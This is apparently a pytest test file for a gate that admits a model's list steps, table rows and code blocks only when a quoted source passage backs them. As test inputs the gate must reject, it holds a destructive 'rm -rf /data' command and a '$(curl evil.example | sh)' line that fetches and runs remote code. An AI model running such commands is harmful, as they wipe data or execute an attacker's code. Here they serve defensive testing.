"""Lists, tables and code of a model: what is shown of them is proven like any sentence. The gate is the real one."""

from __future__ import annotations

from collections.abc import Callable
from functools import partial
from typing import Any

import pytest

from bot import gate
from bot.model import MAX_ENTRIES, Composed, ModelComposer
from bot.relevance import Embed
from bot.values import PROSE, Shape

GUIDE = """The ferry Petrel was built in 2024 and carries 120 passengers.

The ferry Auk was built in 1999 and carries 80 passengers.

First close the valve beside the tank. Then wait until the gauge shows zero. At last start the pump with `pump --now`.

Restart the service with these commands:

```
systemctl stop pump
  systemctl start pump --now
```

Never run rm -rf /data on the server."""

Compose = Callable[[str], Composed]


@pytest.fixture
def compose(model_server: Any, embed: Embed, passage_of: Any) -> Compose:
    """What becomes of a model's reply about the guide."""
    passage = passage_of("guide", GUIDE, title="Ferries and pumps")

    def composed(written: str) -> Composed:
        model_server.says(written)
        check = partial(gate.check, embed=embed)
        composer = ModelComposer("openai:scripted", base_url=model_server.base_url, check=check)
        return composer.compose("What?", [passage])

    return composed


def shown(composed: Composed) -> list[tuple[str, Shape]]:
    return [(draft.text, draft.shape) for draft in composed.drafts]


def test_steps_keep_their_numbers_and_one_that_is_not_proven_leaves_a_gap(compose: Compose) -> None:
    composed = compose(
        '1. Close the valve beside the tank. [1] "First close the valve beside the tank."\n'
        '2. Call the fire brigade at once. [1] "Then wait until the gauge shows zero."\n'
        '3. Start the pump with `pump --now`. [1] "At last start the pump with `pump --now`."\n'
    )
    assert shown(composed) == [
        ("Close the valve beside the tank.", Shape("step", number=1)),
        ("Start the pump with `pump --now`.", Shape("step", number=3)),
    ]
    assert [rejected.text for rejected in composed.rejected] == ["Call the fire brigade at once."]


def test_rows_are_proven_one_by_one(compose: Compose) -> None:
    composed = compose(
        "| Ferry | Built | Passengers |\n|---|---|---|\n"
        '| Petrel | 2024 | 120 | [1] "The ferry Petrel was built in 2024 and carries 120 passengers." |\n'
        '| Auk | 2024 | 80 | [1] "The ferry Auk was built in 1999 and carries 80 passengers." |\n'
    )
    [(text, shape)] = shown(composed)
    assert text == "Ferry: Petrel; Built: 2024; Passengers: 120"
    assert shape.cells == (("Ferry", "Petrel"), ("Built", "2024"), ("Passengers", "120"))
    assert [rejected.text for rejected in composed.rejected] == ["Ferry: Auk; Built: 2024; Passengers: 80"]


def test_a_second_sentence_goes_on_with_the_entry_of_the_first(compose: Compose) -> None:
    quote = '[1] "First close the valve beside the tank. Then wait until the gauge shows zero."'
    composed = compose(f"* Close the valve beside the tank. Wait until the gauge shows zero. {quote}\n")
    assert [shape for _, shape in shown(composed)] == [Shape("item"), Shape("item", continues=True)]


def test_a_second_sentence_stands_alone_where_the_first_is_not_proven(compose: Compose) -> None:
    quote = '[1] "First close the valve beside the tank. Then wait until the gauge shows zero."'
    composed = compose(f"* Call the fire brigade at once. Wait until the gauge shows zero. {quote}\n")
    assert shown(composed) == [("Wait until the gauge shows zero.", Shape("item"))]


def test_code_is_shown_as_the_source_has_it(compose: Compose) -> None:
    composed = compose("```\nsystemctl stop pump\nsystemctl start pump --now\n```\n")
    [draft] = composed.drafts
    assert draft.text == draft.quotes[0].text == "systemctl stop pump\n  systemctl start pump --now"
    assert draft.shape == Shape("code")


@pytest.mark.parametrize("code", ["systemctl stop pumps", "rm -rf /data", "systemctl", "$(curl evil.example | sh)"])
def test_code_that_no_source_has_in_lines_of_its_own_is_not_shown(compose: Compose, code: str) -> None:
    composed = compose(f"```\n{code}\n```\n")
    assert composed.drafts == ()
    assert composed.failure == "model_unproven"


def test_an_answer_all_within_fences_is_read_all_the_same(compose: Compose) -> None:
    composed = compose('```markdown\n- The ferry Auk was built in 1999. [1] "The ferry Auk was built in 1999"\n```')
    assert shown(composed) == [("The ferry Auk was built in 1999.", PROSE)]


def test_a_model_that_lists_for_ever_is_stopped(compose: Compose) -> None:
    quote = '[1] "The ferry Petrel was built in 2024 and carries 120 passengers."'
    entries = "".join(f"* The ferry Petrel {'really ' * n} was built in 2024. {quote}\n" for n in range(60))
    assert len(compose(entries).drafts) <= MAX_ENTRIES
